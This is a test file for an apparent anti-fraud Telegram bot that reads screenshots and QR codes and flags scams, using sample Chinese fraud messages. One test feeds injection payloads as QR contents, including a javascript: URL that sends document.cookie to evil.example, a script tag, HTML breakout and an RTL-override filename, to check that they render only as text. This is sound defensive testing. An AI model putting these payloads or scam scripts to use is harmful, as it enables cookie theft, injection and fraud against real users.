"""Pictures over the real Bot API protocol: every one gets an answer that shows what was read."""

import asyncio
from dataclasses import replace
from functools import cache

import pytest
from PIL import Image

from bot.engine import Engine
from bot.looking import Look
from bot.phrasebook import Phrases
from bot.plain import to_plain
from bot.reading.picture import MOST_BYTES, Code, CodeKind, Passage, Picture, Trouble
from knowledge import Language
from tests.bot_api.person import Person
from tests.bot_api.refusals import BAD_GATEWAY
from tests.screenshots import damage, drawing
from tests.screenshots.drawing import Line
from tests.test_reading_codes import drawn, placed, placed_alone
from tests.test_reading_image import png

SCAM = "我是上海市公安局民警，你名下银行卡涉嫌洗钱案，请勿告诉家人，马上把资金转入国家安全账户核查"
POLICE = "很可能是骗局：冒充公检法"
CHAT: list[Line] = [("left", "快递丢了，三倍赔付，请下载会议软件共享屏幕"), ("right", "真的吗")]


@cache
def screenshot(text: str = SCAM) -> bytes:
    return damage.telegram(drawing.sms("10086", [("left", text)], dark=False, chinese=True))


async def test_a_screenshot_is_judged_and_what_was_read_stands_first(
    person: Person, zh: Phrases
) -> None:
    [reply] = await person.sends_picture(screenshot())
    assert reply.title == zh.picture.read
    assert reply.text.index(SCAM) < reply.text.index(POLICE)
    assert reply.text.endswith(zh.picture.misread)
    assert reply.buttons[0] == zh.buttons.paid
    assert (person.id, "typing") in person.api.account.actions


async def test_a_chat_is_shown_with_its_speakers(person: Person, zh: Phrases) -> None:
    content = damage.compressed(drawing.wechat("理赔客服", CHAT, dark=True, chinese=True))
    [reply] = await person.sends_picture(content)
    assert "对方：快递丢了" in reply.text
    assert "我：真的吗" in reply.text
    assert "很可能是骗局：冒充客服" in reply.text


@pytest.mark.parametrize(
    ("name", "mime"),
    [("a.png", "image/png"), ("A.PNG", None), ("a.jpg", "application/octet-stream")],
)
async def test_a_picture_sent_as_a_file_is_read(
    person: Person, name: str, mime: str | None
) -> None:
    [reply] = await person.sends_file(screenshot(), name, mime)
    assert POLICE in reply.text


async def test_the_answer_is_in_the_language_of_the_person(person: Person, en: Phrases) -> None:
    reader = person.other(2, "en")
    [reply] = await reader.sends_picture(screenshot())
    assert reply.title == en.picture.read
    assert SCAM in reply.text
    assert "This looks like a scam" in reply.text


async def test_a_caption_decides_the_language(person: Person, en: Phrases) -> None:
    [reply] = await person.sends_picture(screenshot(), "Is this message real or is it a scam?")
    assert reply.title == en.picture.read


async def test_an_app_without_a_language_is_answered_in_that_of_the_picture(
    person: Person, en: Phrases
) -> None:
    text = "Your parcel is held, pay the customs fee with your card number at the link today"
    content = damage.clean(drawing.sms("Post", [("left", text)], dark=False, chinese=False))
    stranger = replace(person.other(3), app_language=None)
    [reply] = await stranger.sends_picture(content)
    assert reply.title == en.picture.read


async def test_a_cry_for_help_in_the_caption_comes_first(person: Person, zh: Phrases) -> None:
    [reply] = await person.sends_picture(screenshot(), "我刚刚给这个人转了五万，怎么办")
    assert reply.title.startswith("先别慌")
    assert SCAM in reply.text


async def test_a_caption_tells_what_the_picture_does_not(person: Person) -> None:
    content = screenshot("到楼下了吗？")
    [reply] = await person.sends_picture(content, SCAM)
    assert POLICE in reply.text


async def test_ordinary_pictures_are_not_accused(person: Person, zh: Phrases) -> None:
    [reply] = await person.sends_picture(screenshot("今晚回来吃饭吗，我炖了排骨，路上慢点"))
    assert zh.assessment.everyday in reply.text
    assert "骗局：" not in reply.text


# Bad input: a clear line each


@pytest.mark.parametrize(
    ("content", "trouble"),
    [
        (b"", "empty"),
        (b"\xff\xd8\xff\xe0 not a picture", "broken"),
        (b"hello", "format"),
        (png(16_000, 10_000), "large"),
    ],
)
async def test_what_cannot_be_read_gets_a_line(
    person: Person, zh: Phrases, content: bytes, trouble: str
) -> None:
    [reply] = await person.sends_picture(content)
    assert reply.text == getattr(zh.picture.troubles, trouble)
    [reply] = await person.sends_file(content, "a.png", "image/png", SCAM)
    assert reply.title == f"{POLICE}与“安全账户”" or reply.title.startswith(POLICE)


async def test_what_is_too_heavy_is_not_fetched(person: Person, zh: Phrases) -> None:
    [reply] = await person.sends_file(bytes(MOST_BYTES + 1), "a.png", "image/png")
    assert reply.text == zh.picture.troubles.heavy
    assert "getFile" not in person.api.called("get")


async def test_what_telegram_calls_too_big_is_said_so(person: Person, zh: Phrases) -> None:
    [reply] = await person.sends_picture(bytes(MOST_BYTES + 1))
    assert reply.text == zh.picture.troubles.heavy
    assert person.api.refused == ["Bad Request: file is too big"]
    person.api.refused.clear()


async def test_a_file_that_telegram_lost_is_said_so(person: Person, zh: Phrases) -> None:
    lost = {"file_id": "lost", "file_unique_id": "l", "width": 90, "height": 90}
    [reply] = await person.sends("photo", photo=[lost])
    assert reply.text == zh.picture.troubles.failed
    person.api.refused.clear()


async def test_an_empty_picture_says_what_to_do(person: Person, zh: Phrases) -> None:
    [reply] = await person.sends("photo")
    assert reply.text == zh.picture.no_text


async def test_a_moving_picture_is_read_at_its_start(person: Person, zh: Phrases) -> None:
    first = drawing.sms("10086", [("left", SCAM)], dark=False, chinese=True).resize((720, 824))
    frames = [Image.new("RGB", first.size, "white")]
    content = damage.saved(first, "WEBP", save_all=True, append_images=frames, duration=90)
    [reply] = await person.sends_file(content, "a.webp", "image/webp")
    assert POLICE in reply.text
    assert zh.picture.moving in reply.text


async def test_other_files_get_their_own_line(person: Person, zh: Phrases) -> None:
    [reply] = await person.sends_file(b"PK", "a.docx", "application/msword")
    assert reply.text == zh.kinds.document


# Codes


async def test_four_codes_are_all_told(person: Person, zh: Phrases) -> None:
    contents = [
        "https://qr.alipay.com/fkx1",
        "https://u.wechat.com/abc",
        "tg://login?token=abc",
        "https://a.example/app.apk",
    ]
    [reply] = await person.sends_picture(damage.clean(placed(*map(drawn, contents))))
    assert reply.title == zh.picture.codes
    for kind in ("payment", "friend", "login", "app"):
        said = getattr(zh.picture.code_kinds, kind)
        assert said.partition("{")[0] in reply.text


@pytest.mark.parametrize(
    "content",
    [
        "javascript:fetch('https://evil.example/'+document.cookie)",
        "<script>alert(1)</script>",
        "https://evil.example/<b>bold</b>&amp;?q=@durov",
        "tg://resolve?domain=evil",
        "</blockquote><a href='https://evil.example'>x</a>",
        "\u202egnp.exe \u2028 /start @durov #tag",
    ],
)
async def test_a_code_is_only_ever_shown_as_text(person: Person, content: str) -> None:
    [reply] = await person.sends_picture(damage.clean(placed_alone(drawn(content, 600))))
    assert [link for link in reply.links if "evil" in link or "durov" in link] == []
    assert {entity.tag for entity in reply.formatted.entities} <= {"b", "i", "blockquote"}


async def test_a_code_beside_words_is_told_before_the_verdict(person: Person, zh: Phrases) -> None:
    screen = drawing.web(
        "领取补贴", [("left", "扫码领取补贴"), ("left", f"{SCAM}")], dark=False, chinese=True
    )
    sheet = Image.new("RGB", (screen.width, screen.height + 400), "white")
    sheet.paste(screen, (0, 0))
    sheet.paste(drawn("https://u.wechat.com/abc"), (300, screen.height + 50))
    [reply] = await person.sends_picture(damage.clean(sheet))
    read, code = reply.text.index(zh.picture.read), reply.text.index(zh.picture.codes)
    assert read < code < reply.text.index(POLICE)


# Groups and commands


async def test_a_group_is_answered_when_it_asks_about_a_picture(person: Person) -> None:
    group = person.in_group()
    assert await group.sends_picture(screenshot()) == ()
    picture = group.wrote[-1]
    [reply] = await group.says("/check", reply_to_message=picture)
    assert POLICE in reply.text
    assert reply.answering == picture["message_id"]
    [reply] = await group.sends_picture(screenshot(), "@antifraud_test_bot 真的吗")
    assert POLICE in reply.text
    [reply] = await group.sends_picture(screenshot(), "/check@antifraud_test_bot")
    assert POLICE in reply.text


async def test_check_answers_a_picture_in_private(person: Person) -> None:
    await person.sends_picture(screenshot())
    [reply] = await person.says("/check", reply_to_message=person.wrote[-1])
    assert POLICE in reply.text


async def test_questions_of_others_are_answered_while_a_picture_is_read(
    person: Person, zh: Phrases
) -> None:
    other = person.other(5)
    reading = asyncio.create_task(person.sends_picture(screenshot()))
    [reply] = await other.says("谢谢")
    assert reply.text == zh.smalltalk.thanks
    [reply] = await reading
    assert POLICE in reply.text


async def test_a_sign_that_is_refused_does_not_cost_the_answer(person: Person) -> None:
    person.api.trouble("sendChatAction", BAD_GATEWAY)
    [reply] = await person.sends_picture(screenshot())
    assert POLICE in reply.text


# Without Telegram


def shown(engine: Engine, *found: Picture | Trouble, caption: str = "") -> str:
    return to_plain(engine.dialogue().look(1, Look(tuple(found), caption), "zh"))


def test_pictures_of_one_case_are_one_answer(engine: Engine, zh: Phrases) -> None:
    first, second = (Picture((Passage(part),)) for part in SCAM.split("，请勿"))
    text = shown(engine, first, second, Trouble.BUSY)
    assert "涉嫌洗钱案\n> 告诉家人" in text
    assert POLICE in text
    assert zh.picture.troubles.busy in text


def test_a_long_text_is_shortened_and_parts_no_number(engine: Engine) -> None:
    passage = Passage("请转账" * 34 + "，金额1234567890元整，转到安全账户")
    text = shown(engine, Picture((passage,)))
    assert "…" in text
    assert "金额…" in text.splitlines()[2] or "1234567890元" in text.splitlines()[2]


def test_a_code_alone_gets_the_three_questions(engine: Engine, zh: Phrases) -> None:
    text = shown(engine, Picture((), (Code(CodeKind.LINK, "https://a.example/x"),)))
    assert zh.assessment.unknown in text
    assert "https：//a[.]example/x" in text


@pytest.mark.parametrize("trouble", Trouble)
@pytest.mark.parametrize("language", Language)
def test_every_trouble_has_its_line(engine: Engine, trouble: Trouble, language: Language) -> None:
    look = Look((trouble,))
    [block] = engine.dialogue().look(1, look, language.value).blocks
    said = engine.phrasebook[language].picture.troubles
    assert block == type(block)(getattr(said, trouble.value))


@pytest.mark.parametrize("kind", CodeKind)
@pytest.mark.parametrize("language", Language)
def test_every_kind_of_code_has_its_line(
    engine: Engine, kind: CodeKind, language: Language
) -> None:
    text = getattr(engine.phrasebook[language].picture.code_kinds, kind.value)
    assert text.count("{content}") == 1
